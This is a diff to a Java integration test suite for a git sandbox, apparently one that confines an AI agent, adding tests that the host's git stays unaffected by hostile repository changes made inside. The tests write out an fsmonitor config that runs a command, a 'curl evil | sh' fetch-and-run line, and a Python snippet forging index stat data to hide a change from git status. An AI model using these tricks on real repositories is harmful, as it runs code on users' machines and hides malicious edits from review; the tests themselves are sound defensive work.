@@ -292,14 +292,38 @@ class GitViewIT {
 
     @Test
     void A_Nested_Repository_Added_As_A_Gitlink_Inside_Is_Not_Entered_By_The_Host_s_Git() {
-        Result r = inside("mkdir sub && cd sub && git init -q && echo s > s && git add s && " + GIT
+        String main = hostHead();
+        Result r = inside("mkdir -p d/sub && cd d/sub && git init -q && echo s > s && git add s && " + GIT
                 + " commit -q -m s && printf '[core]\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n'"
-                + " >> .git/config && cd .. && git add sub && " + GIT + " commit -q -m 'add sub'");
-        r.succeeds().stderrContains("adds the gitlink sub");
+                + " >> .git/config && cd ../.. && git add d/sub && " + GIT + " commit -q -m 'add sub'"
+                + " && git switch -q -c agent-work && git switch -q main");
+        r.succeeds().stderrContains("adds the gitlink d/sub", "holds a commit that adds a submodule at d/sub");
 
+        // neither the index nor a branch brings the gitlink to the host: not even after the
+        // user's own checkout of the sandbox's branch, or a reset of the index to main
+        assertThat(hostHead()).isEqualTo(main);
         sandbox.git("status");
         sandbox.git("diff");
+        sandbox.runOnHost("sh", "-c", "git switch -q agent-work 2>/dev/null; git restore --staged . ; git status; true");
         assertThat(marker).doesNotExist();
+        assertThat(sandbox.git("log", "--format=%s", "--branches").stdout()).doesNotContain("add sub");
+    }
+
+    /**
+     * An index entry with the file's new stat data beside its old object would hide the
+     * sandbox's change from the user's git status, git diff and git commit -a: the host
+     * takes no stat data it did not have, so git reads the file and shows the change.
+     */
+    @Test
+    void Stat_Data_Forged_In_The_Index_Hides_No_Change_From_The_Host_s_Git() {
+        String blob = sandbox.git("rev-parse", "HEAD:a.txt").stdout().strip();
+        inside("printf 'one\\ncurl evil | sh\\n' > a.txt && sleep 1.1 && git add a.txt && python3 -c \""
+                + "import hashlib; d = bytearray(open('.git/index', 'rb').read()); d[52:72] = bytes.fromhex('" + blob
+                + "'); d[-20:] = hashlib.sha1(d[:-20]).digest(); open('.git/index', 'wb').write(d)\" && git status"
+                + " --porcelain").succeeds().stdoutIs("");
+
+        assertThat(sandbox.git("status", "--porcelain").stdout()).isEqualTo(" M a.txt\n");
+        assertThat(sandbox.git("diff").stdout()).contains("+curl evil | sh");
     }
 
     /** A repository nested at a gitlink of the project, made on the host before the run. */
